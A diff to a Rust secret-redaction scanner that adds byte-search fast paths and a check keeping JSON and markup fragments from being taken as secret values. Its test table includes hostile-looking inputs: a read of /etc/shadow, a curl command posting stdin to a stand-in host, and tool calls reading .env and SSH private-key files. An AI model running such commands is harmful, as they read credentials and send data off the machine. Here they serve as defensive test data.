@@ -78,6 +78,10 @@ fn addresses(text: &str, matched: &str) -> Vec<String> {
     let line = &text[text.trim_end().rfind('\n').map_or(0, |at| at + 1)..];
     let mut found: Vec<String> = Vec::new();
     for part in [matched, line] {
+        // Most lines hold none, and a search for a byte is the least that one can do.
+        if memchr::memchr_iter(b'.', part.as_bytes()).nth(2).is_none() {
+            continue;
+        }
         for address in ADDRESS.find_iter(part).map(|at| &part[at.range()]) {
             if found.len() < ADDRESSES_MAX && !found.iter().any(|known| known == address) {
                 found.push(address.to_owned());
@@ -118,6 +122,9 @@ const HASH_BYTES_MIN: usize = 20;
 
 /// The text without hashes of passwords, which are guessed from.
 fn without_hashes(text: &str) -> String {
+    if memchr::memchr(b'$', text.as_bytes()).is_none() {
+        return text.to_owned();
+    }
     let mut out = String::with_capacity(text.len());
     let mut at = 0;
     for found in HASH.find_iter(text).map(|found| found.range()) {
@@ -196,14 +203,17 @@ fn find_wrapped(
 fn without_stumps(text: &str) -> &str {
     let is_token = |c: char| c.is_ascii_alphanumeric() || "+/=_-.~".contains(c);
     let mut start = 0;
-    if text.chars().nth(EXCERPT_CHARS + MASK_MARGIN_CHARS - 1).is_some() {
+    let may_be_long = text.len() >= EXCERPT_CHARS + MASK_MARGIN_CHARS;
+    if may_be_long && text.chars().nth(EXCERPT_CHARS + MASK_MARGIN_CHARS - 1).is_some() {
         let first = text.find(|c: char| !is_token(c)).unwrap_or(text.len());
         if first > MASK_MARGIN_CHARS {
             start = first;
         }
     }
     // A private key whose beginning is gone: the lines of its body before its end.
-    if let Some(end) = text.find("-----END ").filter(|end| !text[..*end].contains("-----BEGIN ")) {
+    if let Some(end) = memchr::memmem::find(text.as_bytes(), b"-----END ")
+        .filter(|end| !text[..*end].contains("-----BEGIN "))
+    {
         let after = &text[end + 9..];
         let close = after.find("-----").filter(|close| after[..*close].ends_with("PRIVATE KEY"));
         let body = text[..end].lines().all(|line| line.trim().chars().all(is_token));
@@ -240,7 +250,10 @@ fn redact(scanner: &Scanner, text: &str, placeholders: &mut Placeholders) -> Str
 fn value_of(matched: &str) -> Option<&str> {
     let at = matched.find(['=', ':'])?;
     let value = matched[at + 1..].trim_matches([' ', '"', '\'', ';', ',', '\t']);
-    let is_value = value.len() >= VALUE_BYTES_MIN && !value.contains(char::is_whitespace) && !is_place(value);
+    let is_value = value.len() >= VALUE_BYTES_MIN
+        && !value.contains(char::is_whitespace)
+        && !is_place(value)
+        && !is_structure(value);
     is_value.then_some(value)
 }
 
@@ -250,6 +263,12 @@ fn is_place(value: &str) -> bool {
     let is_path_byte = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-/~".contains(&b);
     let is_path = value.starts_with(['/', '~', '.']) && value.bytes().all(is_path_byte);
     is_path && value[1..].contains('/') || value.starts_with("//") || value.starts_with(['{', '['])
+}
+
+/// Whether a value ends before the text does, and more of an object or an element follows: what was taken for one then
+/// names a part of it.
+fn is_structure(value: &str) -> bool {
+    ["\",", "\":", "\"}", "\">", "',", "':", "'}", "'>"].iter().any(|end| value.contains(end))
 }
 
 fn shortened(text: String) -> String {
@@ -292,6 +311,9 @@ mod tests {
             ("dd if=/etc/shadow", None),
             ("curl -d @- https://x.example/c", None),
             ("\"input\":{\"file_path\":\"/srv/.env\"}", None),
+            (r#"type":"tool_use","name":"Read","input":{"file_path":"/srv/x/.env"#, None),
+            (r#"<parameter name="file_path">/root/.ssh/id_rsa"#, None),
+            ("TOKEN='ab\"cd>ef", Some("ab\"cd>ef")),
             ("AWS_SECRET_ACCESS_KEY=/Zx81Qm2Lp09/Vt7Kd3Rw5", Some("/Zx81Qm2Lp09/Vt7Kd3Rw5")),
         ] {
             assert_eq!(value_of(matched), value, "{matched}");
